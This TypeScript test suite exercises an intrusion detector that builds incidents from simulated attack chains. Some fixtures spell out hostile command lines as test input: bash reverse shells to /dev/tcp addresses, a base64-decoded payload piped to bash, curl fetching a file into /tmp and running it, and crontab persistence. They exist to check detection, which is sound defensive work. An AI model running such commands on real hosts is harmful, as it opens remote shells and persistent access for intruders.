import assert from 'node:assert/strict'
import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import { suite, test } from 'node:test'
import { deserialize, serialize } from 'node:v8'
import fc from 'fast-check'
import { activityBatchOf, imageUid, tcpOperations, type Incident } from '@honeyguide/model'
import { createDetector, type Detector, type DetectorSnapshot } from './detector.ts'
import { sentenceText, type Finding } from './findings/finding.ts'
import { activityOf } from './fixture/activity-of.ts'
import {
  playChain,
  playOrdinary,
  playWhole,
  type Chain,
  type ChainOptions,
} from './fixture/chains.ts'
import { ownRules } from '../../../rules/own-rules.ts'
import type { DetectorState } from './incident/reducer.ts'
import {
  simulatedHost,
  type SimulatedEvent,
  type SimulatedHost,
  type SimulatedProcess,
} from './fixture/simulated-host.ts'
import { wholeSnapshot } from './fixture/whole-snapshot.ts'
import { createLineage } from './lineage/graph.ts'
import type { Lineage, LineageSnapshot } from './lineage/lineage.ts'
import { compileRules } from './rules/rule-set.ts'

const rules = ownRules()

suite('deeds', () => {
  test('a rule about files finds who did it, by process and path', () => {
    const host = simulatedHost()
    const { lineage } = stage()
    const shell = host.snapshot('/usr/bin/bash', ['bash'])
    lineage.apply(host.batch(host.events))
    const detector = createDetector({
      rules: compileRules([
        {
          file: 'cron.yml',
          text: "title: A file for cron\nid: cron\nlevel: high\nlogsource:\n    category: file_event\n    product: linux\ndetection:\n    s:\n        TargetFilename|startswith: '/etc/cron.d/'\n    condition: s\n",
        },
      ]),
    })
    const row = {
      class_uid: 1001,
      activity_name: 'Create',
      time: '2026-11-24T14:00:00.000000Z',
      device_uid: 'd',
      event_uid: 'e1',
      actor_process_uid: imageUid(host.name, shell.pid, shell.startNs, shell.execNo),
      file_path: '/etc/cron.d/x',
    }
    const { findings } = detector.apply(
      activityBatchOf([row, { ...row, activity_name: 'Delete', event_uid: 'e2' }]),
      lineage,
    )
    assert.deepEqual(
      findings.map(({ ruleUid, statement, eventUids }) => [
        ruleUid,
        sentenceText(statement),
        eventUids,
      ]),
      [['cron', 'bash wrote /etc/cron.d/x, as in the rule “A file for cron”', ['e1']]],
    )
  })
})

interface Outcome {
  readonly incidents: Map<string, Incident>
  readonly merged: Map<string, string>
  readonly findings: Map<string, Finding>
}

/** What a hub does: batches in, upserts kept. */
function stage(
  lineage: Lineage = createLineage(),
  detector: Detector = createDetector({ rules }),
  outcome: Outcome = { incidents: new Map(), merged: new Map(), findings: new Map() },
) {
  return {
    lineage,
    detector,
    outcome,
    feed(host: SimulatedHost, events: readonly SimulatedEvent[]) {
      if (events.length === 0) return
      const batch = host.batch(events)
      lineage.apply(batch)
      const changes = detector.apply(activityOf(batch, lineage, host.hostname), lineage)
      for (const finding of changes.findings) outcome.findings.set(finding.uid, finding)
      for (const { incident, mergedInto } of changes.incidents) {
        if (mergedInto === null) outcome.incidents.set(incident.uid, incident)
        else {
          outcome.incidents.delete(incident.uid)
          outcome.merged.set(incident.uid, mergedInto)
        }
      }
    },
  }
}

function run(host: SimulatedHost): Outcome {
  const { feed, outcome } = stage()
  feed(host, host.events)
  return outcome
}

/** Events cut into batches of the given sizes, in turn. */
function cut(events: readonly SimulatedEvent[], sizes: readonly number[]): SimulatedEvent[][] {
  const out: SimulatedEvent[][] = []
  for (let at = 0, turn = 0; at < events.length; turn++) {
    const size = sizes[turn % sizes.length] ?? 1
    out.push(events.slice(at, at + size))
    at += size
  }
  return out
}

function detectorHosts(detector: Detector) {
  return [...(detector.snapshot().data as DetectorState).hosts.values()]
}

/** Event uids that an incident holds on its timeline. */
const heldEvents = (incident: Incident) => new Set(incident.ticks.map((tick) => tick.eventUid))

/** Uids of exec events of a chain's processes. */
function execEvents(host: SimulatedHost, chain: Chain): string[] {
  const pids = new Set(chain.processes.map((process) => process.pid))
  return host.events
    .filter(({ table, values }) => table === 'exec' && pids.has(Number(values['pid'])))
    .map(({ values }) => `${host.name}-l${(values['seq'] as bigint).toString(36)}`)
}

const latestImage = (host: SimulatedHost, process: SimulatedProcess) =>
  imageUid(host.name, process.pid, process.startNs, process.execNo)

/** Order of map entries by their name. */
function byKey(a: readonly [string, unknown], b: readonly [string, unknown]): number {
  return a[0] < b[0] ? -1 : a[0] > b[0] ? 1 : 0
}

suite('detector', () => {
  test('makes one incident of one chain, with all its steps', () => {
    for (const options of [
      {},
      { tool: 'wget' },
      { tool: 'client', server: '/opt/shop/front' },
      { separateShells: true },
      { keptShell: true },
      { keptShell: true, tool: 'client' },
      { payload: '/dev/shm/u', beatMs: 700, beats: 5 },
    ] satisfies ChainOptions[]) {
      const host = simulatedHost(1, 'web-03')
      const chain = playWhole(host, options)
      const { incidents } = run(host)
      assert.equal(incidents.size, 1, JSON.stringify(options))
      const [incident] = incidents.values()
      assert.ok(incident)
      assert.deepEqual(
        incident.steps.map((step) => step.name),
        ['Shell', 'Tool transfer', 'Dropped file run', 'Discovery', 'Call back'],
      )
      const held = heldEvents(incident)
      for (const uid of execEvents(host, chain)) assert.ok(held.has(uid), `${uid} is missing`)
      const sum = incident.reasons.reduce((total, reason) => total + reason.share, 0)
      assert.ok(Math.abs(sum - 1) < 1e-9)
      assert.ok(incident.reasons.length <= 5)
      assert.equal(new Set(incident.nodes.map((node) => node.id)).size, incident.nodes.length)
      for (const edge of incident.edges)
        for (const end of [edge.from, edge.to])
          assert.ok(incident.nodes.some((node) => node.id === end))
    }
  })

  test('says in the title who did what to what, with real names', () => {
    const host = simulatedHost(1, 'web-03')
    playWhole(host)
    const [incident] = run(host).incidents.values()
    assert.equal(
      sentenceText(incident?.title ?? []),
      'nginx on web-03 started a shell that downloaded /tmp/.cache/worker from 127.0.0.1:8080, ' +
        'ran it, looked around and called back to 127.0.0.1:4444 every 2.0 s',
    )
  })

  test('gives the incident of the fixture chain, field by field', () => {
    const host = simulatedHost(1, 'web-03')
    playWhole(host)
    const [incident] = run(host).incidents.values()
    const file = new URL('./fixture/chain.incident.json', import.meta.url)
    if (!existsSync(file) || process.env['UPDATE_GOLDEN'] === '1')
      writeFileSync(file, `${JSON.stringify(incident, null, 2)}\n`)
    assert.deepEqual(JSON.parse(JSON.stringify(incident)), JSON.parse(readFileSync(file, 'utf8')))
  })

  test('says what would make a start ordinary only when enough was seen', () => {
    for (const [times, expected] of [
      [19, null],
      [
        1204,
        /^the parent were make, which did so 1,204 times on web-03 since 20\d\d-\d\d-\d\d \d\d:\d\d UTC$/,
      ],
    ] as const) {
      const host = simulatedHost(1, 'web-03')
      const init = host.snapshot('/sbin/init', ['init'], { pid: 1, startNs: 5n })
      const make = host.spawn(init, '/usr/bin/make', ['make'])
      for (let at = 0; at < times; at++)
        host.exit(host.spawn(make, '/bin/sh', ['sh', '-c', 'true']))
      playWhole(host)
      const [incident] = run(host).incidents.values()
      const reason = incident?.reasons.find((one) => one.techniqueUid === 'T1059.004')
      assert.ok(reason)
      // It is one sentence, without a label or the title of its rule.
      assert.equal(
        sentenceText(reason.statement),
        'nginx takes connections and started the shell sh -c run',
      )
      if (expected === null) assert.equal(reason.ordinaryIf, null)
      else assert.match(sentenceText(reason.ordinaryIf ?? []), expected)
    }
  })

  test('makes no incident of ordinary life', () => {
    const host = simulatedHost(1)
    playOrdinary(host)
    const { incidents, findings } = run(host)
    assert.deepEqual(
      [...incidents.values()].map((one) => sentenceText(one.title)),
      [],
    )
    assert.ok(findings.size > 0, 'weak findings are kept')
    for (const finding of findings.values()) assert.equal(finding.incidentUid, '')
  })

  test('keeps two chains that run at the same time apart', () => {
    const chance = fc.infiniteStream(fc.boolean())
    const tool = fc.constantFrom('curl' as const, 'wget' as const, 'client' as const)
    fc.assert(
      fc.property(
        chance,
        tool,
        tool,
        fc.boolean(),
        fc.boolean(),
        (turns, oneTool, twoTool, fromOneShell, keptShell) => {
          const host = simulatedHost(1)
          const init = host.snapshot('/sbin/init', ['init'], { pid: 1, startNs: 5n })
          // A shell with a terminal counts as somebody's own; and beats that the other chain's waits make irregular
          // do not tell the chain either.
          const shell = host.spawn(init, '/bin/bash', ['bash', 'both.sh'], {
            tty: keptShell ? '' : 'pts/1',
          })
          // Each is started by a launcher of its own, from one shell, or by the same init.
          const parentOf = (n: number) =>
            fromOneShell ? host.spawn(shell, '/usr/bin/node', ['node', 'launch', String(n)]) : init
          const plays = [
            playChain(host, {
              tool: oneTool,
              payload: '/tmp/a/one',
              keptShell,
              port: 8080,
              callbackPort: 4001,
              parent: parentOf(1),
            }),
            playChain(host, {
              tool: twoTool,
              payload: '/tmp/b/two',
              port: 8081,
              callbackPort: 4002,
              parent: parentOf(2),
            }),
          ]
          const chains: (Chain | undefined)[] = [undefined, undefined]
          while (chains.includes(undefined)) {
            const which = turns.next().value ? 0 : 1
            const turn = chains[which] ? 1 - which : which
            const step = plays[turn]?.next()
            if (step?.done) chains[turn] = step.value
          }
          const { incidents } = run(host)
          assert.equal(incidents.size, 2)
          const events = chains.map((chain) => execEvents(host, chain ?? { processes: [] }))
          const own = [...incidents.values()].map((incident) => {
            const held = heldEvents(incident)
            return events.map((uids) => uids.filter((uid) => held.has(uid)).length)
          })
          own.sort((a, b) => (b[0] ?? 0) - (a[0] ?? 0))
          assert.deepEqual(own, [
            [events[0]?.length, 0],
            [0, events[1]?.length],
          ])
        },
      ),
      { numRuns: 100 },
    )
  })

  test('gives the same findings and incidents whatever the batches, and after a restart between them', () => {
    fc.assert(
      fc.property(
        fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 1, maxLength: 8 }),
        fc.nat(1000),
        fc.boolean(),
        (sizes, restartAt, ordinary) => {
          const host = simulatedHost(1)
          playWhole(host)
          if (ordinary) playOrdinary(host)
          const whole = run(host)
          let parts = stage()
          const batches = cut(host.events, sizes)
          batches.forEach((events, index) => {
            if (index === restartAt % batches.length) {
              const lineage = createLineage()
              lineage.restore(deserialize(serialize(wholeSnapshot(parts.lineage))))
              const detector = createDetector({ rules })
              detector.restore(deserialize(serialize(parts.detector.snapshot())))
              const next = stage(lineage, detector)
              for (const [uid, one] of parts.outcome.incidents) next.outcome.incidents.set(uid, one)
              for (const [uid, one] of parts.outcome.findings) next.outcome.findings.set(uid, one)
              parts = next
            }
            parts.feed(host, events)
          })
          assert.deepEqual(parts.outcome.findings, whole.findings)
          assert.deepEqual(parts.outcome.incidents, whole.incidents)
        },
      ),
      { numRuns: 60 },
    )
  })

  test('comes to the same when it goes back to a snapshot again and again', () => {
    fc.assert(
      fc.property(fc.infiniteStream(fc.nat(9)), (random) => {
        const hosts = [simulatedHost(1, 'a'), simulatedHost(2, 'b')]
        for (const host of hosts) playWhole(host, { tool: 'wget' })
        const records = hosts
          .flatMap((host) =>
            cut(host.events, [8]).map((events, index) => ({ host, events, index })),
          )
          .sort((a, b) => a.index - b.index)
        const straight = stage()
        for (const { host, events } of records) straight.feed(host, events)
        let parts = stage()
        const { outcome } = parts
        const save = (at: number) => ({
          at,
          state: serialize([wholeSnapshot(parts.lineage), parts.detector.snapshot()]),
        })
        let saved = save(0)
        for (let at = 0, kills = 0; at < records.length;) {
          const record = records[at++]
          if (record) parts.feed(record.host, record.events)
          if ((random.next().value ?? 0) < 2) saved = save(at)
          if ((random.next().value ?? 0) > 1 || kills > 20) continue
          kills += 1
          const [one, two] = deserialize(saved.state) as [LineageSnapshot, DetectorSnapshot]
          const lineage = createLineage()
          lineage.restore(one)
          const detector = createDetector({ rules })
          detector.restore(two)
          parts = stage(lineage, detector, outcome)
          at = saved.at
        }
        assert.deepEqual(
          new Map([...outcome.incidents].sort(byKey)),
          new Map([...straight.outcome.incidents].sort(byKey)),
        )
        assert.deepEqual(
          new Map([...outcome.findings].sort(byKey)),
          new Map([...straight.outcome.findings].sort(byKey)),
        )
      }),
      { numRuns: 30 },
    )
  })

  test('hosts do not touch each other, however their batches are interleaved', () => {
    fc.assert(
      fc.property(fc.infiniteStream(fc.integer({ min: 1, max: 20 })), (random) => {
        const hosts = [simulatedHost(1, 'a'), simulatedHost(2, 'b')]
        for (const host of hosts) playWhole(host)
        const both = stage()
        const left = hosts.map((host) => [...host.events])
        while (left.some((events) => events.length > 0)) {
          const size = random.next().value ?? 1
          const which = size % 2
          const host = hosts[which]
          if (host) both.feed(host, left[which]?.splice(0, size) ?? [])
        }
        const alone = new Map(hosts.flatMap((host) => [...run(host).incidents]))
        assert.deepEqual(
          new Map([...both.outcome.incidents].sort(byKey)),
          new Map([...alone].sort(byKey)),
        )
      }),
      { numRuns: 30 },
    )
  })

  test('goes on with what the processes of an open incident do', () => {
    const host = simulatedHost(1)
    const chain = playWhole(host)
    const shell = chain.processes[0]
    assert.ok(shell)
    const parts = stage()
    parts.feed(host, host.events)
    const before = [...parts.outcome.incidents.values()][0]
    const late = host.events.length
    const later = host.spawn(shell, '/usr/bin/less', ['less', '/srv/data'])
    parts.feed(host, host.events.slice(late))
    const after = [...parts.outcome.incidents.values()][0]
    assert.equal(after?.uid, before?.uid)
    assert.ok(after?.nodes.some((node) => node.processUid === latestImage(host, later)))
    assert.deepEqual(after?.alive && { ...after.alive, count: 1 }, {
      name: 'less',
      pid: later.pid,
      count: 1,
    })
  })

  test('merges two incidents whose processes talk to each other; the earlier name stays', () => {
    const host = simulatedHost(1)
    const one = playWhole(host, { payload: '/tmp/a/one', port: 8080 })
    const two = playWhole(host, { payload: '/tmp/b/two', port: 8081, callbackPort: 5555 })
    const parts = stage()
    parts.feed(host, host.events)
    assert.equal(parts.outcome.incidents.size, 2)
    const [first, second] = [...parts.outcome.incidents.values()].sort((a, b) =>
      a.firstTime < b.firstTime ? -1 : 1,
    )
    const late = host.events.length
    const waiting = host.spawn(one.processes[0] as SimulatedProcess, '/bin/nc', [
      'nc',
      '-l',
      '9999',
    ])
    const calling = host.spawn(two.processes[0] as SimulatedProcess, '/bin/nc', [
      'nc',
      '127.0.0.1',
      '9999',
    ])
    host.connect(calling, '127.0.0.1', 9999, waiting)
    parts.feed(host, host.events.slice(late))
    assert.deepEqual([...parts.outcome.incidents.keys()], [first?.uid])
    assert.deepEqual([...parts.outcome.merged], [[second?.uid, first?.uid]])
    for (const finding of parts.outcome.findings.values())
      assert.equal(finding.incidentUid, first?.uid)
  })

  test('names the first shell of a server whose connection is told of late', () => {
    for (const keptShell of [false, true]) {
      const host = simulatedHost(1)
      const chain = playWhole(host, { separateShells: !keptShell, keptShell })
      const accept = host.events.findIndex(
        ({ values }) => values['operation'] === tcpOperations.accept && values['localPort'] === 80,
      )
      const [late] = host.events.splice(accept, 1)
      assert.ok(late)
      const parts = stage()
      parts.feed(host, host.events.slice(0, accept + 4))
      parts.feed(host, [late, ...host.events.slice(accept + 4)])
      assert.equal(parts.outcome.incidents.size, 1)
      const [incident] = parts.outcome.incidents.values()
      assert.ok(incident)
      const held = heldEvents(incident)
      for (const uid of execEvents(host, chain)) assert.ok(held.has(uid), `${uid} is missing`)
    }
  })

  test('ties who fetched a file to who ran it, when what joins them was not seen', () => {
    const host = simulatedHost(1)
    playWhole(host, { separateShells: true, unseenServer: true })
    const { incidents } = run(host)
    assert.equal(incidents.size, 1)
    const [incident] = incidents.values()
    const names = incident?.nodes.map((node) => node.label)
    assert.ok(names?.includes('curl') && names.includes('worker'))
  })

  test('opens at once for a critical rule', () => {
    const host = simulatedHost(1)
    const init = host.snapshot('/sbin/init', ['init'], { pid: 1, startNs: 5n })
    const app = host.spawn(init, '/usr/bin/java', ['java'])
    host.spawn(app, '/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.7/443 0>&1'])
    const [incident] = run(host).incidents.values()
    assert.equal(incident?.severity, 'critical')
  })

  test('does not open for what is spread over more than the window', () => {
    const host = simulatedHost(1)
    const init = host.snapshot('/sbin/init', ['init'], { pid: 1, startNs: 5n })
    const shell = host.spawn(init, '/bin/bash', ['bash'])
    host.spawn(shell, '/usr/bin/curl', ['curl', '-o', '/tmp/x', 'http://192.0.2.1/x'])
    host.wait(700_000)
    host.spawn(shell, '/tmp/x', ['/tmp/x'])
    for (const name of ['id', 'uname', 'ps', 'ss']) {
      host.wait(20_000)
      host.spawn(shell, `/usr/bin/${name}`, [name])
    }
    assert.equal(run(host).incidents.size, 0)
  })

  test('keeps within its limits and counts what it does not keep', () => {
    const host = simulatedHost(1)
    const chain = playWhole(host)
    const shell = chain.processes[0] as SimulatedProcess
    for (let i = 0; i < 200; i++) host.exit(host.spawn(shell, `/usr/bin/tool${i}`, [`tool${i}`]))
    const parts = stage(createLineage(), createDetector({ rules, limits: { processes: 50 } }))
    parts.feed(host, host.events)
    const [incident] = parts.outcome.incidents.values()
    assert.ok((incident?.nodes.length ?? 0) <= 60)
    assert.ok(parts.detector.counts().droppedEvents > 100)
    assert.equal(incident?.leftOut, parts.detector.counts().droppedEvents, 'and says so')
  })

  test('tells what keeps coming by its number, and still takes it as evidence', () => {
    const host = simulatedHost(1)
    const init = host.snapshot('/sbin/init', ['init'], { pid: 1, startNs: 5n })
    const scanner = host.spawn(init, '/tmp/scan', ['/tmp/scan'])
    const calls = 3000
    for (let port = 1; port <= calls; port++) host.connect(scanner, '192.0.2.1', port)
    const parts = stage(createLineage(), createDetector({ rules, limits: { repeats: 10 } }))
    parts.feed(host, host.events)
    const told = [...parts.outcome.findings.values()].filter(({ ruleTitle }) =>
      ruleTitle.includes('temporary place made a connection'),
    )
    // 10 one by one, then at 20, 40 … 2560.
    assert.deepEqual(
      told.map(({ count }) => count),
      [...Array<number>(10).fill(1), 10, 20, 40, 80, 160, 320, 640, 1280],
    )
    assert.equal(parts.detector.counts().untoldFindings, calls - told.length)
    const [story] = detectorHosts(parts.detector).flatMap((one) => [...one.stories])
    assert.equal(story?.findings.size, 200, 'as much evidence as a story keeps')
    host.wait(2 * 3_600_000)
    const before = host.events.length
    host.connect(scanner, '192.0.2.1', calls + 1)
    parts.feed(host, host.events.slice(before))
    assert.equal([...parts.outcome.findings.values()].at(-1)?.count, 1, 'begins anew after a rest')
  })

  test('counts each finding once, also those that an incident tells which were not told before', () => {
    for (const before of [100, 30, 8]) {
      const host = simulatedHost(1)
      const init = host.snapshot('/sbin/init', ['init'], { pid: 1, startNs: 5n })
      const scanner = host.spawn(init, '/tmp/bash', ['/tmp/bash'])
      for (let port = 1; port <= before; port++) host.connect(scanner, '192.0.2.1', port)
      const parts = stage(createLineage(), createDetector({ rules, limits: { repeats: 10 } }))
      const counts = () =>
        [...parts.outcome.findings.values()].flatMap(({ ruleTitle, count }) =>
          ruleTitle.includes('temporary place made a connection') ? [count] : [],
        )
      const sum = () => counts().reduce((total, count) => total + count, 0)
      parts.feed(host, host.events)
      const from = host.events.length
      host.spawn(scanner, '/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'])
      host.spawn(scanner, '/bin/bash', ['bash', '-c', 'echo Y3VybA== | base64 -d | bash'])
      host.spawn(scanner, '/usr/bin/crontab', ['crontab', '/tmp/x'])
      parts.feed(host, host.events.slice(from))
      assert.equal(parts.outcome.incidents.size, 1)
      assert.equal(counts().length, before, 'an incident tells all that it has')
      assert.equal(sum(), before)
      const late = host.events.length
      for (let port = 1; port <= 60; port++) host.connect(scanner, '192.0.2.1', before + port)
      parts.feed(host, host.events.slice(late))
      assert.equal(sum(), before + 60)
    }
  })

  test('follows no more processes than it has room for, whatever they do, and counts whom it lets go', () => {
    fc.assert(
      fc.property(
        fc.array(fc.nat(1000), { minLength: 50, maxLength: 300 }),
        fc.integer({ min: 4, max: 30 }),
        fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 1, maxLength: 5 }),
        (steps, room, sizes) => {
          const host = simulatedHost(1)
          const chain = playWhole(host)
          const alive = [chain.processes[0] as SimulatedProcess]
          for (const step of steps) {
            const subject = alive[step % alive.length] as SimulatedProcess
            if (step % 3 === 0 && alive.length > 1) {
              host.exit(subject)
              alive.splice(alive.indexOf(subject), 1)
            } else if (step % 3 === 1) alive.push(host.fork(subject))
            else alive.push(host.spawn(subject, `/usr/bin/t${step % 7}`, [`t${step % 7}`]))
          }
          const limits = { members: room, processes: 25, events: 40 }
          const outcomes = [[host.events.length], sizes].map((batches) => {
            const parts = stage(createLineage(), createDetector({ rules, limits }))
            for (const events of cut(host.events, batches)) {
              parts.feed(host, events)
              for (const { members, stories } of detectorHosts(parts.detector)) {
                assert.ok(members.size <= room, `${members.size} members`)
                for (const story of stories) {
                  assert.ok(story.images.size <= limits.processes)
                  assert.ok(story.ended.size <= story.images.size)
                  assert.ok(story.events.size <= limits.events)
                }
              }
            }
            return { counts: parts.detector.counts(), incidents: parts.outcome.incidents.size }
          })
          const [whole] = outcomes
          assert.ok(whole && whole.counts.evictedMembers > 0)
          assert.equal(whole.incidents, 1)
        },
      ),
      { numRuns: 30 },
    )
  })

  test('lets go of those that ended first, so that what lives is still followed', () => {
    const host = simulatedHost(1)
    const chain = playWhole(host)
    const shell = chain.processes[0] as SimulatedProcess
    for (let at = 0; at < 500; at++) host.exit(host.spawn(shell, '/usr/bin/true', ['true']))
    const last = host.spawn(shell, '/usr/bin/last', ['last'])
    const parts = stage(createLineage(), createDetector({ rules, limits: { members: 40 } }))
    parts.feed(host, host.events)
    const [members] = detectorHosts(parts.detector).map((one) => one.members)
    const name = imageUid(host.name, last.pid, last.startNs, last.execNo)
    assert.ok(members?.has(name.slice(0, name.lastIndexOf('-'))))
    assert.ok(parts.detector.counts().evictedMembers > 400)
  })
})
